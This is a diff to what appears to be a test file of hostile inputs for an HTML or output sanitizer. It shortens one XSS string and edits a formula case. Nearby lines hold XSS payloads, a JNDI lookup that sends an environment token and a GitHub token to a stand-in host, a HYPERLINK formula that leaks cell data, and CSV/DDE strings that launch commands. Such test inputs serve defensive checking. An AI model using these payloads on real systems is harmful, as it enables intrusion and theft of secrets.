@@ -140,7 +140,7 @@ MUTATIONS = (
     "<table><td><svg><style></td></table><img src=x onerror=alert(1)></style></svg>",
     "<p><svg><title><p><style><img title='</style></p></title></svg><img src=x onerror=alert(1)>'>",
     "<img alt='`><img src=x onerror=alert(1)>'>",
-    "<b>" * 300 + "<svg><style><img src=x onerror=alert(1)>",
+    "<b>" * 40 + "<svg><style><img src=x onerror=alert(1)>",
     "<isindex prompt='\"><img src=x onerror=alert(1)>'>",
     "<xss id=x tabindex=1 onactivate=alert(1)></xss><x-foo is=b onclick=alert(1)>x</x-foo>",
 )
@@ -237,7 +237,7 @@ OTHERS = (
     "${jndi:ldap://ond.example/a} ${env:TOKEN} ${{ github.token }}",
     "{!{ x }!} {{{{raw}}}} [% x %] #{x} <x v-html=\"'a'\" ng-bind-html=a x-data=alert(1) @click=alert(1) :onclick=alert(1)>",
     '=HYPERLINK("https://ond.example?"&A1,"Klicka")',
-    "=1+1",
+    "=2+2",
     "+46+cmd|'/c calc'!A0",
     "-2+3+cmd|'/c calc'!A0",
     "@SUM(1+1)*cmd|'/c calc'!A0",
